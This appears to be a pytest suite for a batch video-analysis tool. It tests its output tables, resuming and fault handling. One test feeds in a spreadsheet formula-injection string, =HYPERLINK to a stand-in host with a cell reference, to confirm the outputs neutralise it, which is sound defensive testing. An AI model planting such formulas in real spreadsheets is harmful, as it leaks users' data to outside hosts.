"""Runs over many videos with made-up work: tables, resuming, faults and stops. The model's part is in test_batch_model."""

import csv
import errno
import io
import json
import os
import subprocess
import sys
from contextlib import closing
from dataclasses import replace
from functools import partial
from pathlib import Path

import fsspec
import numpy as np
import openpyxl
import pandas as pd
import pytest

import alignment
from alignment import outputs
from alignment.batch import Batch, analyze_many, process_pool, store
from alignment.batch.inputs import gather
from alignment.batch.tables import NAMES, RUN
from alignment.batch.tasks import Task
from alignment.batch.worker import process
from alignment.cli import main
from alignment.core.assessment import parse_limits, shipped_limits_text
from alignment.errors import InputError
from alignment.pose.engines import ENGINES
from alignment.pose.fake import FakeEngine
from alignment.pose.tracking import usable_cores
from alignment.request import BATCH, DEFAULT_ENGINE, default_request
from alignment.texts import say
from alignment.workflow import Stage
from tests import batches
from tests.analyses import filmed
from tests.conftest import ROOT
from tests.fakes import engine_replaced


@pytest.fixture(autouse=True)
def here(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)


@pytest.fixture(autouse=True)
def inline(monkeypatch):
    """The work is made up and done in this process, last task first, without a model; who did what is noted."""
    worked = []

    def work_through(tasks, _work, *, scratch, follow=None, **_how):
        for task in sorted(tasks, key=lambda task: task.name, reverse=True):
            worked.append(task.name)
            watch = partial(follow, task) if follow else lambda *_: None
            yield task, batches.obey(task, scratch, watch)

    monkeypatch.setattr(process_pool, "work_through", work_through)
    with engine_replaced(FakeEngine()):
        yield worked


def wanted(activity="squat", **choices):
    return default_request(BATCH, activity).choosing(choices)


def run(*inputs, out="out", **choices):
    """One run; what became of each video."""
    with store.open_store(out) as place:
        return {done.video: done for done in Batch(gather(inputs, NAMES), wanted(**choices), place).run()}


def table(name, out="out"):
    return list(csv.DictReader(io.StringIO((Path(out) / name).read_text())))


def tables(out="out"):
    """Every table's bytes; run.json holds times and is none."""
    return {name: (Path(out) / name).read_bytes() for name in sorted(NAMES - {RUN})}


def entries(folder="out"):
    return sorted(str(path.relative_to(folder)) for path in Path(folder).rglob("*") if path.is_file())


VIDEOS = {"b": "fine 1", "a": "fine 2", "c": "bad", "d": "blank", "e": "fault"}


def test_a_run_leaves_a_folder_for_each_video_and_the_tables():
    batches.write(Path("in"), **VIDEOS)
    done = run("in")
    assert {name: video.how for name, video in done.items()} == {
        "in/a.mp4": "analyzed",
        "in/b.mp4": "analyzed",
        "in/c.mp4": "failed",
        "in/d.mp4": "analyzed",
        "in/e.mp4": "failed",
    }
    own = {outputs.RESULT, outputs.CYCLES, outputs.FRAMES, outputs.TRACK, outputs.ORIGIN}
    assert entries() == sorted([*NAMES, ".batch/lock", *(f"{name}/{file}" for name in "abd" for file in own)])
    assert done["in/a.mp4"].result == outputs.read_result(Path("out/a"))
    assert table("failures.csv") == [
        {
            "video": "in/c.mp4",
            "stage": "landmarks",
            "reason": "We can't open in/c.mp4: none of its pictures can be read.",
            "remedy": "It may be damaged or cut short: export it again from your phone.",
        },
        {
            "video": "in/e.mp4",
            "stage": "landmarks",
            "reason": "Something unforeseen went wrong (ZeroDivisionError: by nought).",
            "remedy": "Run again with ALIGNMENT_DEBUG=1 to see where.",
        },
    ]


def test_the_tables_tell_every_number_of_every_video_in_order():
    batches.write(Path("in"), **VIDEOS)
    run("in")
    cycles, summary = table("cycles.csv"), table("summary.csv")
    assert [row["video"] for row in cycles] == sorted(row["video"] for row in cycles)
    assert {row["video"] for row in summary} == {"in/a.mp4", "in/b.mp4", "in/d.mp4"}
    own = list(csv.DictReader(io.StringIO(Path("out/a/cycles.csv").read_text())))
    mine = [row for row in cycles if row["video"] == "in/a.mp4"]
    assert [{name: row[name] for name in own[0]} for row in mine] == own
    assert mine[0]["fppa_deg"] == "-12.35"
    assert {row["rejected"] for row in mine} == {"", "too_shallow"}
    assert {(row["activity"], row["quality"]) for row in mine} == {("squat", "good")}
    blank = next(row for row in summary if row["video"] == "in/d.mp4")
    assert (blank["mean"], blank["reason"]) == ("", "nobody")
    assert (summary[0]["measure"], summary[0]["mean"], summary[0]["n"]) == ("fppa", "-12.34", "3")


def test_parquet_holds_the_same_as_csv_with_types_and_meanings():
    import pyarrow.parquet as pq

    batches.write(Path("in"), a="fine", d="blank")
    run("in")
    typed = pd.read_parquet("out/cycles.parquet")
    plain = pd.read_csv("out/cycles.csv", keep_default_na=False, dtype=str)
    assert list(typed.columns) == list(plain.columns)
    assert typed["index"].dtype == np.int64
    given = pd.to_numeric(plain["fppa_deg"], errors="coerce")
    np.testing.assert_array_equal(typed["fppa_deg"], given)
    assert np.isfinite(given).sum() > 2
    field = pq.read_schema("out/cycles.parquet").field("fppa_deg")
    assert field.metadata == {b"unit": b"deg", b"meaning": say("meaning_fppa").message.encode()}


def test_every_column_of_every_table_is_in_the_dictionary():
    batches.write(Path("in"), a="fine", c="bad")
    Path("list.csv").write_text("path,subject,side,note\nin/a.mp4,S1,left,first\nin/c.mp4,S2,right,\n")
    run("list.csv")
    told = table("columns.csv")
    for name in ("cycles.csv", "summary.csv", "occasions.csv", "failures.csv", "columns.csv"):
        head = (Path("out") / name).read_text().splitlines()[0].split(",")
        assert [row["column"] for row in told if row["table"] == name] == head
    assert all(row["meaning"] for row in told)
    signs = {row["column"]: (row["unit"], row["meaning"]) for row in told if row["table"] == "cycles.csv"}
    assert signs["fppa_deg"] == ("deg", say("meaning_fppa").message)
    assert signs["manifest_side"] == ("", "the manifest's column side, as it stands there")
    row = table("summary.csv")[0]
    assert (row["subject"], row["manifest_side"], row["note"], row["side"]) == ("S1", "left", "first", "left")


def test_rows_have_keys_that_join_the_tables_and_outlast_names_places_and_limits():
    batches.write(Path("in"), a="fine 1", b="fine 2", copy="fine 1")
    run("in")
    cycles, summary = table("cycles.csv"), table("summary.csv")
    for rows in (cycles, summary):
        assert len({row["key"] for row in rows}) == len(rows)
        assert {row["key"].partition(":")[0] for row in rows} == {row["film_key"] for row in rows}
    assert {row["film_key"] for row in cycles} == {row["film_key"] for row in summary}
    first = {row["video"]: row["film_key"] for row in summary}
    assert first["in/copy.mp4"] == f"{first['in/a.mp4']}-2"
    assert first["in/a.mp4"] != first["in/b.mp4"]
    a, copy = (next(row for row in summary if row["video"] == f"in/{name}.mp4") for name in ("a", "copy"))
    assert a["film_sha256"] == copy["film_sha256"] != ""
    # Elsewhere, called otherwise, and held against other limits.
    batches.write(Path("moved"), other="fine 2")
    changed = parse_limits(shipped_limits_text().replace("knee_over_toe,leg,,", "knee_over_toe,leg,-9,"), "mine.csv")
    run("moved", out="again", limits=changed)
    assert {row["film_key"] for row in table("summary.csv", "again")} == {first["in/b.mp4"]}


def test_a_workbook_is_made_anew_where_another_table_is_or_it_is_gone(monkeypatch):
    """It takes longer than all the others, of hundreds of videos."""
    batches.write(Path("in"), a="fine 1", b="fine 2")
    run("in")
    first = Path("out/study.xlsx").stat()
    run("in")
    assert Path("out/study.xlsx").stat().st_ino == first.st_ino
    Path("in/b.mp4").unlink()
    run("in")
    assert Path("out/study.xlsx").stat().st_ino != first.st_ino
    made = Path("out/study.xlsx").read_bytes()
    Path("out/study.xlsx").unlink()
    run("in")
    assert Path("out/study.xlsx").read_bytes() == made


def test_rows_of_many_videos_wait_on_the_disk_and_leave_the_same_tables(monkeypatch):
    batches.write(Path("in"), **{name: f"fine {name}" for name in "abcdef"})
    run("in")
    monkeypatch.setattr("alignment.batch.tables._IN_MEMORY", 100)
    monkeypatch.setattr("alignment.batch.tables._AT_ONCE", 4)
    run("in", out="again")
    whole = {name: content for name, content in tables("again").items() if name != "cycles.parquet"}
    assert whole == {name: content for name, content in tables().items() if name != "cycles.parquet"}
    pd.testing.assert_frame_equal(pd.read_parquet("again/cycles.parquet"), pd.read_parquet("out/cycles.parquet"))


def test_tables_tell_how_each_film_was_made():
    batches.write(Path("in"), a="fine")
    result = run("in")["in/a.mp4"].result
    for name in ("cycles.csv", "summary.csv"):
        row = table(name)[0]
        assert row["film_sha256"] == result.source.sha256
        assert (row["camera_facing"], row["camera_yaw_deg"], row["camera_yaw_se_deg"]) == ("front", "1.0", "2.0")
        assert (row["rate_hz"], row["analyzed_rate_hz"]) == ("29.97", "0.538")
        assert (row["model"], row["version"], row["camera_pitch_deg"]) == ("heavy", "0.1.0", "")


INJECTION = '=HYPERLINK("http://x/?"&A1)'


def test_the_study_workbook_holds_the_tables_with_numbers_as_numbers_and_no_formula():
    batches.write(Path("in"), a="fine", c="bad")
    head = "path,subject,pain,code,=1+1"
    quoted = INJECTION.replace('"', '""')
    Path("list.csv").write_text(f'{head}\nin/a.mp4,"{quoted}",-3,007,@SUM(1)\nin/c.mp4,S2,4,-x,+1\n')
    run("list.csv")
    book = openpyxl.load_workbook("out/study.xlsx")
    assert book.sheetnames == ["summary", "cycles", "occasions", "failures", "columns"]
    kinds = {(row["table"], row["column"]): row["unit"] for row in table("columns.csv")}
    for sheet in book:
        rows = list(sheet.iter_rows())
        plain = table(f"{sheet.title}.csv")
        assert (len(rows), sheet.freeze_panes) == (len(plain) + 1, "B2")
        # A text's apostrophe is CSV's alone.
        names = [f"'{cell.value}" if cell.value == "=1+1" else cell.value for cell in rows[0]]
        assert names == [column for name, column in kinds if name == f"{sheet.title}.csv"]
        assert all(cell.comment.text for cell in rows[0])
        assert {cell.data_type for row in rows for cell in row} <= {"s", "n", "b", "inlineStr"}
        for row, told in zip(rows[1:], plain, strict=True):
            for name, cell, text in zip(names, row, told.values(), strict=True):
                if kinds[f"{sheet.title}.csv", name] or name in ("n", "index", "pain", "recognised_probability"):
                    assert cell.value is None or cell.data_type == "n", (sheet.title, name)
                if cell.data_type == "n":
                    assert (cell.value is None and not text) or float(text) == cell.value
                elif cell.data_type == "b":
                    assert str(cell.value).lower() == text
                else:
                    assert text in (cell.value, f"'{cell.value}")
    row = dict(zip([cell.value for cell in book["summary"][1]], book["summary"][2], strict=True))
    assert row["subject"].value == INJECTION
    assert (row["pain"].value, row["code"].value, row["=1+1"].value) == (-3, "007", "@SUM(1)")
    assert row["differ"].data_type in ("b", "n")
    # In CSV such text has an apostrophe before it, and numbers have none.
    told = table("summary.csv")[0]
    assert (told["subject"], told["pain"], told["'=1+1"]) == (f"'{INJECTION}", "-3", "'@SUM(1)")
    cells = [cell for name in sorted(NAMES) if name.endswith(".csv") for cell in cells_of(Path("out") / name)]
    assert not [cell for cell in cells if cell[:1] in tuple("=+@\t\r") or (cell[:1] == "-" and not is_number(cell))]


def cells_of(path):
    return [cell for row in csv.reader(io.StringIO(path.read_text())) for cell in row]


def is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_videos_of_one_occasion_are_judged_as_one():
    batches.write(Path("in"), a="fine 1", b="fine 2", c="fine 3", d="fine 4", e="blank", f="bad")
    rows = ["in/a.mp4,S2,1", "in/b.mp4,S1,1", "in/c.mp4,S1,1", "in/d.mp4,S1,", "in/e.mp4,S1,1", "in/f.mp4,S1,1"]
    Path("list.csv").write_text("\n".join(["path,subject,occasion", *rows]) + "\n")
    done = run("list.csv")
    told = table("occasions.csv")
    assert {(row["subject"], row["occasion"], row["activity"], row["films"]) for row in told} == {
        ("S1", "1", "squat", "3"),
        ("S2", "1", "squat", "1"),
    }
    results = [done[f"in/{name}.mp4"].result for name in "bce"]
    occasion = alignment.judge_occasion(results)
    mine = [row for row in told if row["subject"] == "S1"]
    assert [(row["measure"], row["side"], int(row["n"])) for row in mine] == [
        (row.measure, row.side, row.n) for row in occasion.summary
    ]
    weight = next(row for row in mine if row["measure"] == "weight_right_share")
    assert (weight["n"], weight["mean"], weight["verdict"], weight["min_cycles"]) == ("3", "0.512", "unknown", "3")
    # The largest of three alike is the first, and each video has one repetition that counts.
    assert (weight["worst_video"], weight["worst_cycle"]) == ("in/b.mp4", "0")
    # Also in the tables of each video, which are the same as without occasions but for that column.
    assert {row["video"]: row["occasion"] for row in table("summary.csv")}["in/d.mp4"] == ""
    first = tables()
    assert run("list.csv")["in/b.mp4"].how == "kept"
    assert tables() == first


def test_videos_that_do_not_go_together_are_told_among_the_failures():
    batches.write(Path("in"), a="fine", b="fine")
    Path("list.csv").write_text("path,occasion\nin/a.mp4,1\nin/b.mp4,1\n")
    assert {one.how for one in run("list.csv").values()} == {"analyzed"}
    assert table("occasions.csv") == []
    (failure,) = table("failures.csv")
    assert (failure["video"], failure["stage"]) == ("in/a.mp4; in/b.mp4", "assessment")
    assert failure["reason"] == "b.mp4 was given twice, and its repetitions would count twice."


def test_run_json_says_with_what_it_was_made():
    batches.write(Path("in"), a="fine", c="bad", notes="x")
    Path("in/notes.mp4").rename("in/notes.txt")
    run("in")
    told = json.loads(Path("out/run.json").read_text())
    assert told["ended"] == "finished"
    assert told["videos"] == {"named": 2, "analyzed": 1, "assessed": 0, "kept": 0, "failed": 1, "not_begun": 0}
    assert told["model"]["variant"] == "heavy"
    assert len(told["model"]["sha256"]) == 64
    assert told["settings"]["outputs"] == ["result", "cycles", "track", "frames", "report", "report_plain"]
    assert told["versions"]["mediapipe"] == "0.10.33"
    assert told["left_aside"] == ["in/notes.txt"]
    assert set(told["seconds_of"]) == {"in/a.mp4", "in/c.mp4"}


# --- Resuming


def test_the_same_command_again_does_only_what_is_missing(inline):
    batches.write(Path("in"), **VIDEOS)
    run("in")
    before = tables()
    inline.clear()
    done = run("in")
    assert inline == ["in/e.mp4", "in/c.mp4"]
    assert [video.how for video in done.values()].count("kept") == 3
    assert done["in/a.mp4"].result == outputs.read_result(Path("out/a"))
    assert tables() == before


def test_a_video_that_changed_is_done_again_and_one_that_was_only_touched_is_not(inline):
    batches.write(Path("in"), a="fine 1", b="fine 2")
    run("in")
    before = json.loads(Path("out/a/batch.json").read_text())["sha256"]
    Path("in/a.mp4").write_text("fine 3")
    os.utime("in/b.mp4", (1, 1))
    done = run("in")
    assert {name: video.how for name, video in done.items()} == {"in/a.mp4": "analyzed", "in/b.mp4": "kept"}
    assert json.loads(Path("out/a/batch.json").read_text())["sha256"] != before
    inline.clear()
    run("in")
    assert inline == []  # the touched one's new time is known now


def test_other_limits_need_no_landmarks_and_other_landmarks_need_all():
    batches.write(Path("in"), a="fine")
    run("in")
    track = Path("out/a/track.parquet").read_bytes()
    other = parse_limits(shipped_limits_text().replace("3.5", "3.6"), "other")
    assert run("in", limits=other)["in/a.mp4"].how == "assessed"
    assert Path("out/a/track.parquet").read_bytes() == track
    assert run("in", limits=other)["in/a.mp4"].how == "kept"
    assert run("in", camera_roll_deg=2.0)["in/a.mp4"].how == "assessed"
    assert run("in", end_s=1.0)["in/a.mp4"].how == "analyzed"
    assert run("in", model="lite", workers=1)["in/a.mp4"].how == "analyzed"
    assert run("in", model="lite", workers=4)["in/a.mp4"].how == "kept"


def test_another_version_does_everything_again(monkeypatch):
    batches.write(Path("in"), a="fine")
    run("in")
    monkeypatch.setattr("alignment.batch.plan.version_of", lambda: "9.9.9")
    assert run("in")["in/a.mp4"].how == "analyzed"


def test_landmarks_first_and_results_from_them_later():
    batches.write(Path("in"), a="fine", b="bad")
    done = run("in", landmarks_only=True)
    assert {name: (video.how, video.result) for name, video in done.items()} == {
        "in/a.mp4": ("analyzed", None),
        "in/b.mp4": ("failed", None),
    }
    assert entries() == sorted([".batch/lock", "a/batch.json", "a/track.parquet", "failures.csv", "run.json"])
    assert run("in", landmarks_only=True)["in/a.mp4"].how == "kept"
    assert run("in")["in/a.mp4"].how == "assessed"
    assert len(table("cycles.csv")) > 2
    # Results that stand are not taken away by asking for less.
    assert run("in", landmarks_only=True)["in/a.mp4"].how == "kept"
    assert Path("out/a/result.json").exists()


def test_landmarks_outlive_a_fault_in_what_follows(inline):
    batches.write(Path("in"), a="unassessable")
    assert run("in")["in/a.mp4"].failure.stage == Stage.ASSESS
    assert entries("out/a") == ["batch.json", "track.parquet"]
    assert table("failures.csv")[0]["reason"] == "Something unforeseen went wrong (ValueError: no way)."
    assert table("summary.csv") == []


def test_a_removed_file_is_made_again():
    batches.write(Path("in"), a="fine")
    run("in")
    before = tables()
    Path("out/a/cycles.csv").unlink()
    assert run("in")["in/a.mp4"].how == "assessed"
    Path("out/a/track.parquet").unlink()
    assert run("in")["in/a.mp4"].how == "analyzed"
    assert tables() == before


def test_an_unreadable_result_is_made_again():
    batches.write(Path("in"), a="fine")
    run("in")
    before = tables()
    Path("out/a/result.json").write_text("half")
    assert run("in")["in/a.mp4"].how == "assessed"
    assert tables() == before


def test_reports_that_were_not_wanted_before_need_no_landmarks():
    batches.write(Path("in"), a="fine")
    assert run("in", report=False)["in/a.mp4"].how == "analyzed"
    assert run("in", report=False)["in/a.mp4"].how == "kept"
    assert run("in")["in/a.mp4"].how == "assessed"
    assert run("in", report=False)["in/a.mp4"].how == "kept"


def test_the_work_leaves_the_reports_and_the_same_bytes_each_time(tmp_path):
    track = tmp_path / "track.parquet"
    outputs.save_track(track, filmed("squat"))
    task = Task("a", "a", str(track), wanted())
    made = process(task, tmp_path, lambda *_: None)
    assert {outputs.RESULT, outputs.REPORT, outputs.REPORT_PLAIN} <= set(made.files)
    assert process(task, tmp_path, lambda *_: None).files == made.files
    assert made.left_out == {}


def test_why_a_report_is_missing_stands_in_the_account(capsys, monkeypatch):
    obeyed, why = batches.obey, {"report": "It could not be written."}
    monkeypatch.setattr(batches, "obey", lambda *given: replace(obeyed(*given), left_out=why))
    batches.write(Path("in"), a="fine")
    assert main(["batch", "in", "--activity", "squat"]) == 0
    assert "Results without a report: 1; why stands in" in capsys.readouterr().out
    assert json.loads(Path("out/run.json").read_text())["left_out"] == {"in/a.mp4": why}


def test_what_others_left_in_the_folder_stays():
    batches.write(Path("in"), a="fine")
    Path("out/a").mkdir(parents=True)
    Path("out/a/notes.txt").write_text("mine")
    run("in")
    assert Path("out/a/notes.txt").read_text() == "mine"
    Path("out/a/batch.json").unlink()  # as if `analyze` had made the folder, from whatever film
    content = Path("out/a/result.json").read_bytes()
    done = run("in")["in/a.mp4"]
    assert done.how == "analyzed"
    assert done.folder != "out/a"
    assert Path("out/a/result.json").read_bytes() == content
    assert run("in")["in/a.mp4"].how == "kept"


# --- Faults


def test_a_full_disk_stops_the_run_cleanly_and_resuming_completes_it(monkeypatch):
    batches.write(Path("in"), **VIDEOS)
    run("in", out="whole")
    written = []
    really = Path.write_bytes

    def write_bytes(path, content):
        if "out" in path.parts and ".batch" not in path.parts:
            written.append(path.name)
            if len(written) > 7:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return really(path, content)

    monkeypatch.setattr(Path, "write_bytes", write_bytes)
    with pytest.raises(InputError, match="The disk is full, so the run stopped"):
        run("in")
    assert not [name for name in entries() if "partial" in name]
    assert [row["video"] for row in table("failures.csv")] == ["in/a.mp4", "in/b.mp4", "in/c.mp4", "in/e.mp4"]
    full = table("failures.csv")[1]
    assert (full["stage"], full["reason"]) == ("writing", "The disk is full while writing out/b.")
    assert table("failures.csv")[0]["stage"] == "waiting"
    assert json.loads(Path("out/run.json").read_text())["ended"] == "disk_full"
    monkeypatch.undo()
    monkeypatch.chdir(Path.cwd())


def test_a_full_disk_is_met_before_the_tables_too(monkeypatch):
    batches.write(Path("in"), a="fine")
    run("in")
    before = tables()

    def no_room(_path):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    Path("in/b.mp4").write_text("fine")
    monkeypatch.setattr(store, "replacing", no_room)
    with pytest.raises(InputError, match="The disk is full while writing out/"):
        run("in")
    assert tables() == before


def test_a_stopped_run_tells_what_is_missing_and_resuming_makes_it_whole():
    batches.write(Path("in"), **VIDEOS)
    run("in", out="whole")
    with store.open_store("out") as place:
        batch = Batch(gather(["in"], NAMES), wanted(), place)
        with closing(batch.run()) as coming:
            first = next(coming)
    assert first.video == "in/e.mp4"
    reasons = {row["video"]: row["reason"] for row in table("failures.csv")}
    assert set(reasons) == {f"in/{name}.mp4" for name in VIDEOS}
    assert reasons["in/a.mp4"] == "The run ended before it was done."
    assert json.loads(Path("out/run.json").read_text())["ended"] == "stopped"
    run("in")
    assert tables() == tables("whole")


def test_what_a_killed_run_left_is_cleared_away_and_an_earlier_result_comes_back():
    batches.write(Path("in"), a="fine", b="fine 2")
    run("in")
    before = tables()
    # Killed while the folder of `a` was being exchanged, and while that of `b` and a table were being written.
    Path("out/a").rename("out/.a.12345678.old")
    Path("out/.b.12345678.partial").mkdir()
    Path("out/.alignment.12345678.partial").write_text("half")
    Path("out/.batch/scratch-1/worker-2-x").mkdir(parents=True)
    assert {video.how for video in run("in").values()} == {"kept"}
    assert tables() == before
    assert [path.name for path in Path("out").iterdir() if path.name.startswith(".")] == [".batch"]
    assert entries("out/.batch") == ["lock"]


def test_two_runs_on_one_place_do_not_meet(capfd):
    batches.write(Path("in"), a="fine")
    with store.open_store("out"):
        assert main(["batch", "in", "--activity", "squat"]) == 2
    said = capfd.readouterr().err
    assert f"Error: Another run is working on out (process {os.getpid()}, since" in said
    assert main(["batch", "in", "--activity", "squat"]) == 0


def test_a_lock_of_a_killed_run_does_not_last():
    script = "import os, sys; from alignment.batch import store\nwith store.open_store('out'): os.kill(os.getpid(), 9)"
    ended = subprocess.run([sys.executable, "-c", script], check=False, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert ended.returncode == -9
    assert Path("out/.batch/lock").read_text().startswith("process ")
    batches.write(Path("in"), a="fine")
    assert run("in")["in/a.mp4"].how == "analyzed"


def test_a_run_that_comes_to_nothing_leaves_nothing():
    batches.write(Path("in"), a="fine")

    def offline(_model, _progress):
        raise InputError("batch_no_distributed")

    ENGINES[DEFAULT_ENGINE] = replace(ENGINES[DEFAULT_ENGINE], file=offline)
    with pytest.raises(InputError):
        run("in", out="new/out")
    assert not Path("new").exists()


# --- Other places, and from Python


def test_results_at_a_url_count_only_when_whole(inline):
    memory = fsspec.filesystem("memory")
    batches.write(Path("in"), **VIDEOS)
    run("in", out="whole")
    try:
        run("in", out="memory://study/out")
        found = {name: memory.cat(f"/study/out/{name}") for name in NAMES - {RUN}}
        assert found == tables("whole")
        inline.clear()
        run("in", out="memory://study/out")
        assert inline == ["in/e.mp4", "in/c.mp4"]
        memory.rm("/study/out/a/batch.json")
        assert run("in", out="memory://study/out")["in/a.mp4"].how == "analyzed"
    finally:
        memory.rm("/study", recursive=True)


def test_analyze_many_yields_results_as_they_are_finished():
    batches.write(Path("in"), a="fine", b="bad")
    assert alignment.analyze_many is analyze_many
    found = {done.video: done for done in analyze_many("in", "squat")}
    assert found["in/a.mp4"].result.measured
    assert found["in/b.mp4"].failure.code == "no_frames"
    assert not Path("out").exists()
    again = list(analyze_many([Path("in/a.mp4")], "squat", out=Path("kept")))
    assert [done.how for done in again] == ["analyzed"]
    assert [done.how for done in analyze_many(["in/a.mp4"], "squat", out="kept")] == ["kept"]
    with pytest.raises(InputError, match="no activity jumping"):
        next(analyze_many("in", "jumping"))


def test_many_films_are_data_frames_once_they_are_finished():
    batches.write(Path("in"), a="fine", b="bad", c="blank")
    study = analyze_many("in", "squat", out="out")
    assert next(study).video in ("in/a.mp4", "in/b.mp4", "in/c.mp4")
    for name in ("summary", "cycles", "failures", "columns", "occasions"):
        told, plain = getattr(study, name), pd.read_csv(f"out/{name}.csv")
        assert list(told.columns) == list(plain.columns)
        assert len(told) == len(plain)
    assert list(study) == []
    told = study.summary
    assert told["mean"].dtype == np.float64
    assert told.query("video == 'in/a.mp4'")["n"].to_list() == [3]
    assert told.query("video == 'in/c.mp4'")["mean"].isna().all()
    assert list(study.failures["video"]) == ["in/b.mp4"]


def test_importing_the_package_stays_light():
    script = (
        "import sys, alignment; print([m for m in ('numpy', 'alignment.batch', 'distributed') if m in sys.modules])"
    )
    said = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=ROOT, check=True)
    assert said.stdout == "[]\n"
    script = (
        "import sys; from alignment.batch import Batch; print([m for m in ('distributed', 'dask') if m in sys.modules])"
    )
    said = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=ROOT, check=True)
    assert said.stdout == "[]\n"


# --- The command


def test_the_command_says_how_it_went(capfd):
    batches.write(Path("in"), **VIDEOS)
    Path("in/notes.txt").write_text("x")
    assert main(["batch", "in", "--activity", "squat"]) == 1
    said = capfd.readouterr()
    assert said.out.splitlines() == [
        "Analyzed: 3",
        "Failed: 2",
        "Quality: good 3, usable 0, unusable 0",
        "Why, and what to do: out/failures.csv",
        "Tables: out (cycles.csv, summary.csv, occasions.csv, failures.csv; columns.csv explains them)",
    ]
    assert said.err.splitlines() == [
        "Videos: 5; done before: 0; to do: 5",
        f"Processes: {min(usable_cores(), 5)}",
        "Left aside, since they are not named like videos: 1 (.txt)",
        "Error: in/e.mp4: Something unforeseen went wrong (ZeroDivisionError: by nought).",
        "Error: We can't open in/c.mp4: none of its pictures can be read.",
    ]


@pytest.mark.parametrize(
    ("videos", "code"), [({"a": "fine"}, 0), ({"a": "fine", "d": "blank"}, 3), ({"d": "blank", "c": "bad"}, 2)]
)
def test_the_worst_exit_code_counts(videos, code):
    batches.write(Path("in"), **videos)
    assert main(["batch", "in", "--activity", "squat"]) == code
    assert main(["batch", "in", "--activity", "squat"]) == code


def test_the_activity_may_stand_in_the_manifest(capfd):
    batches.write(Path("in"), a="fine", b="fine 2")
    Path("list.csv").write_text("path,activity\nin/a.mp4,squat\nin/b.mp4,\n")
    assert main(["batch", "list.csv", "--activity", "stairs"]) == 0
    wanted = {name: json.loads(Path(f"out/in/{name}/batch.json").read_text())["numbers"]["activity"] for name in "ab"}
    assert wanted == {"a": "squat", "b": "stairs"}
    Path("list.csv").write_text("path,activity\nin/a.mp4,squat\nin/b.mp4,stairs\n")
    assert main(["batch", "list.csv"]) == 0
    assert "Kept from an earlier run: 2" in capfd.readouterr().out


def test_a_place_that_cannot_be_used_is_told_before_the_work(capfd, inline):
    batches.write(Path("in"), a="fine")
    Path("file").write_text("x")
    assert main(["batch", "in", "--activity", "squat", "--out", "file/out"]) == 2
    assert "Results cannot be written to file/out" in capfd.readouterr().err
    assert inline == []
